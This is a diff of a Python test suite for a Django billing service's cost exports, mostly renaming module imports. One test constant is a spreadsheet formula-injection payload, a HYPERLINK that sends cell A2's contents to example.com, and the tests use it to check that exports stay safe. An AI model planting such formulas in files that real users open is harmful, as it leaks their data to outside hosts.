@@ -17,10 +17,14 @@ from django.db import connection
 from pyarrow import parquet
 from rest_framework.test import APIClient
 
-from billing import credit_notes, drafts, export_api, exports, focus, invoicing, posting, spans
-from billing.files import inert
+from billing.accounts import credit_notes
+from billing.exports import api as exports_api
+from billing.exports import files, focus
+from billing.invoices import closing, drafts, spans
+from billing.ledger import posting
 from billing.models import Credit, CreditNote, Discount, Invoice, LedgerEntry, Price
-from portal import limits
+from portal.api import limits
+from portal.files import inert
 from portal.models import Appcode
 from tests.billing.test_invoices import APRIL, DAY, HOUR, IN_APRIL, IN_MAY, MARCH, MAY, at, pod, record
 from tests.focus.validator import validate
@@ -30,7 +34,7 @@ FORMULA = '=HYPERLINK("http://example.com/?"&A2,"pay")'
 
 
 def read(month: dt.date, appcodes: list[int] | None = None) -> list[dict[str, str]]:
-    data = b"".join(exports.chunks(month, appcodes, "csv"))
+    data = b"".join(files.chunks(month, appcodes, "csv"))
     return list(csv.DictReader(io.StringIO(data.decode(), newline="")))
 
 
@@ -65,13 +69,13 @@ def months(people):
     # Told later and at other times: a reversal within the month.
     record(pod(people.ops.pk, "p-2", end=3 * HOUR + 1, gpus=0, begin=-7))
     posting.post(at(5 * HOUR))
-    invoicing.close_due(IN_APRIL)
+    closing.close_due(IN_APRIL)
     record(
         pod(people.ops.pk, "p-5", begin=-3 * DAY, end=-3 * DAY + 101), pod(people.ops.pk, "p-6", begin=DAY, end=DAY + 5)
     )
     record(pod(people.ops.pk, "p-1", begin=-11, end=HOUR + 7, gpu_model="A100"))
     posting.post(IN_APRIL + dt.timedelta(days=1))
-    invoicing.close_due(IN_MAY)
+    closing.close_due(IN_MAY)
     march = Invoice.objects.get(appcode=people.ops, month=MARCH)
     credit_notes.issue(march, Decimal("0.10"), "Sorry, “<so>”", acting_user=people.root)
     assert LedgerEntry.objects.filter(kind="reversal").exists()
@@ -144,13 +148,13 @@ def test_an_open_month_has_what_is_posted_on_no_invoice(months):
 
 def test_parquet_says_the_same_as_csv(months, tmp_path):
     file = tmp_path / "april.parquet"
-    file.write_bytes(b"".join(exports.chunks(APRIL, None, "parquet")))
+    file.write_bytes(b"".join(files.chunks(APRIL, None, "parquet")))
     table = parquet.read_table(file)
     assert table.column_names == list(focus.COLUMNS)
     told = [{name: focus.text(inert(value)) for name, value in row.items()} for row in table.to_pylist()]
     assert told == read(APRIL)
     empty = tmp_path / "empty.parquet"
-    empty.write_bytes(b"".join(exports.chunks(dt.date(2020, 1, 1), None, "parquet")))
+    empty.write_bytes(b"".join(files.chunks(dt.date(2020, 1, 1), None, "parquet")))
     assert parquet.read_table(empty).num_rows == 0
 
 
@@ -160,12 +164,12 @@ def test_a_name_that_is_a_formula_reaches_no_spreadsheet(months, tmp_path):
     # Amounts are what they were, also those below nothing.
     assert any(row["BilledCost"].startswith("-") for row in rows)
     file = tmp_path / "april.parquet"
-    file.write_bytes(b"".join(exports.chunks(APRIL, None, "parquet")))
+    file.write_bytes(b"".join(files.chunks(APRIL, None, "parquet")))
     assert FORMULA in parquet.read_table(file).column("SubAccountName").to_pylist()
 
 
 @pytest.mark.timeout(600)
-@pytest.mark.parametrize("kind", exports.FORMATS)
+@pytest.mark.parametrize("kind", files.FORMATS)
 def test_the_public_validator_finds_nothing(months, tmp_path, kind):
     file = tmp_path / f"april.{kind}"
     call_command("export_focus", month="2026-04", format=kind, output=str(file))
@@ -223,10 +227,10 @@ def test_rest_gives_everybody_their_own(months):
 
 
 @pytest.mark.timeout(600)
-@pytest.mark.parametrize("kind", exports.FORMATS)
+@pytest.mark.parametrize("kind", files.FORMATS)
 def test_memory_does_not_grow_with_the_month(months, kind, monkeypatch):
-    monkeypatch.setattr(exports, "PORTION", 200)
-    monkeypatch.setattr(exports, "ROW_GROUP", 1000)
+    monkeypatch.setattr(files, "PORTION", 200)
+    monkeypatch.setattr(files, "ROW_GROUP", 1000)
     columns = (
         "segment_id, uid, sku, since, until, quantity, price_id, per_hour, discount, charge, appcode_id, business_line,"
         " consumer, labels"
@@ -241,7 +245,7 @@ def test_memory_does_not_grow_with_the_month(months, kind, monkeypatch):
                 [copies],
             )
         tracemalloc.start()
-        size = sum(len(chunk) for chunk in exports.chunks(MAY, None, kind))
+        size = sum(len(chunk) for chunk in files.chunks(MAY, None, kind))
         most = tracemalloc.get_traced_memory()[1]
         tracemalloc.stop()
         return size, most
@@ -255,7 +259,7 @@ def test_a_large_invoice_adds_up_exactly(people):
     Price.objects.create(sku="gpu", per_hour=Decimal("98765432.198767"), valid_from=at(-9 * DAY))
     record(*(pod(people.ops.pk, f"p-{n}", end=3001 + 7 * n, gpus=77) for n in range(40)))
     posting.post(at(HOUR * 9))
-    invoicing.close_due(IN_APRIL)
+    closing.close_due(IN_APRIL)
     (invoice,) = Invoice.objects.all()
     assert invoice.total > 10**11
     assert sum(Fraction(row["BilledCost"]) for row in read(MARCH)) == Fraction(invoice.total)
@@ -268,13 +272,13 @@ def cursors() -> int:
         return cursor.fetchone()[0]
 
 
-@pytest.mark.parametrize("kind", exports.FORMATS)
+@pytest.mark.parametrize("kind", files.FORMATS)
 def test_who_reads_slowly_holds_no_snapshot(months, monkeypatch, kind):
-    monkeypatch.setattr(exports, "PORTION", 2)
-    monkeypatch.setattr(exports, "ROW_GROUP", 2)
-    monkeypatch.setattr(export_api, "CHUNK", 100)
+    monkeypatch.setattr(files, "PORTION", 2)
+    monkeypatch.setattr(files, "ROW_GROUP", 2)
+    monkeypatch.setattr(exports_api, "CHUNK", 100)
     before = cursors()
-    making = exports.rows(MARCH, None)
+    making = files.rows(MARCH, None)
     next(making)
     # Whoever makes it and stops is ended by the database.
     assert cursors() == before + 1
@@ -301,9 +305,9 @@ def test_who_reads_slowly_holds_no_snapshot(months, monkeypatch, kind):
 def test_a_reader_is_let_go_when_its_time_is_over(months, monkeypatch):
     api = APIClient()
     api.force_authenticate(months.root)
-    monkeypatch.setattr(export_api, "CHUNK", 100)
+    monkeypatch.setattr(exports_api, "CHUNK", 100)
     response = api.get("/api/v1/exports/focus", {"month": "2026-03"})
-    monkeypatch.setattr(exports, "MAX_SECONDS", -1)
+    monkeypatch.setattr(files, "MAX_SECONDS", -1)
     with pytest.raises(TimeoutError, match="not read"):
         list(response.streaming_content)
     response.close()
